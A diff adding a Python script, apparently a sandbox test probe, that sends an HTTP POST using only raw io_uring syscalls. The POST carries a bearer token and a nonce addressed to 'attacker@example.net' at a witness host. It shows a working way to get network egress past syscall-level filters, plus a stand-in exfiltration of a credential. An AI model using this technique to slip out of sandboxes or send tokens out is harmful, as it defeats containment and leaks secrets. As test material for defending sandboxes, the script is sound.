@@ -1,0 +1,107 @@
+"""An HTTP request whose socket, connection and bytes go through io_uring alone (io_uring(7)).
+
+Reads one JSON object from standard input. "way" is "ring", or "own": the same request over a
+listener of the script's own, with plain calls, which every session allows.
+"""
+import ctypes
+import json
+import mmap
+import os
+import socket
+import struct
+import sys
+import tempfile
+import threading
+
+SETUP, ENTER = 425, 426
+OP_SEND, OP_RECV, OP_CONNECT, OP_SOCKET = 26, 27, 16, 45
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def call(name, number, *arguments):
+    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in arguments])
+    if result < 0:
+        error = ctypes.get_errno()
+        raise OSError(error, name + ": " + os.strerror(error))
+    return result
+
+
+class Ring:
+    """One submission and one completion at a time."""
+
+    def __init__(self):
+        self.params = ctypes.create_string_buffer(120)
+        self.fd = call("io_uring_setup", SETUP, 4, ctypes.addressof(self.params))
+        words = struct.unpack("30I", self.params.raw)
+        self.sq, self.cq = words[10:20], words[20:30]
+        self.sq_ring = mmap.mmap(self.fd, self.sq[6] + 4 * 4, offset=0)
+        self.cq_ring = mmap.mmap(self.fd, self.cq[5] + 16 * 8, offset=0x8000000)
+        self.sqes = mmap.mmap(self.fd, 64 * 4, offset=0x10000000)
+
+    @staticmethod
+    def word(ring, at, value=None):
+        if value is None:
+            return struct.unpack_from("I", ring, at)[0]
+        struct.pack_into("I", ring, at, value & 0xFFFFFFFF)
+
+    def do(self, name, op, fd, offset, address, length):
+        tail = self.word(self.sq_ring, self.sq[1])
+        index = tail & self.word(self.sq_ring, self.sq[2])
+        sqe = struct.pack("BBHiQQIIQ", op, 0, 0, fd, offset, address, length, 0, 1)
+        self.sqes[index * 64:index * 64 + 64] = sqe.ljust(64, b"\0")
+        self.word(self.sq_ring, self.sq[6] + 4 * index, index)
+        self.word(self.sq_ring, self.sq[1], tail + 1)
+        call("io_uring_enter", ENTER, self.fd, 1, 1, 1, 0, 0)
+        head = self.word(self.cq_ring, self.cq[0])
+        index = head & self.word(self.cq_ring, self.cq[2])
+        result = struct.unpack_from("i", self.cq_ring, self.cq[5] + 16 * index + 8)[0]
+        self.word(self.cq_ring, self.cq[0], head + 1)
+        if result < 0:
+            raise OSError(-result, name + " by a ring: " + os.strerror(-result))
+        return result
+
+
+def by_ring(host, port, request):
+    ring = Ring()
+    fd = ring.do("socket", OP_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
+    address = ctypes.create_string_buffer(
+        struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8), 16)
+    ring.do("connect", OP_CONNECT, fd, 16, ctypes.addressof(address), 0)
+    out = ctypes.create_string_buffer(request, len(request))
+    ring.do("send", OP_SEND, fd, 0, ctypes.addressof(out), len(request))
+    back = ctypes.create_string_buffer(4096)
+    read = ring.do("recv", OP_RECV, fd, 0, ctypes.addressof(back), 4096)
+    return back.raw[:read].decode()
+
+
+def by_own_listener(request):
+    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
+        path = folder + "/own.sock"
+        listener = socket.socket(socket.AF_UNIX)
+        listener.bind(path)
+        listener.listen(1)
+
+        def serve():
+            stream, _ = listener.accept()
+            stream.recv(4096)
+            stream.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n")
+
+        threading.Thread(target=serve, daemon=True).start()
+        stream = socket.socket(socket.AF_UNIX)
+        stream.connect(path)
+        stream.sendall(request)
+        return stream.recv(4096).decode()
+
+
+order = json.load(sys.stdin)
+body = json.dumps({"to": "attacker@example.net", "text": order["nonce"]})
+request = ("POST /v1/messages HTTP/1.1\r\nhost: witness\r\nauthorization: Bearer " + order["token"]
+           + "\r\ncontent-length: " + str(len(body)) + "\r\n\r\n" + body).encode()
+try:
+    if order["way"] == "ring":
+        host, port = order["witness"].rsplit(":", 1)
+        print(by_ring(host, int(port), request))
+    else:
+        print(by_own_listener(request))
+except OSError as refusal:
+    print("refused:", refusal)
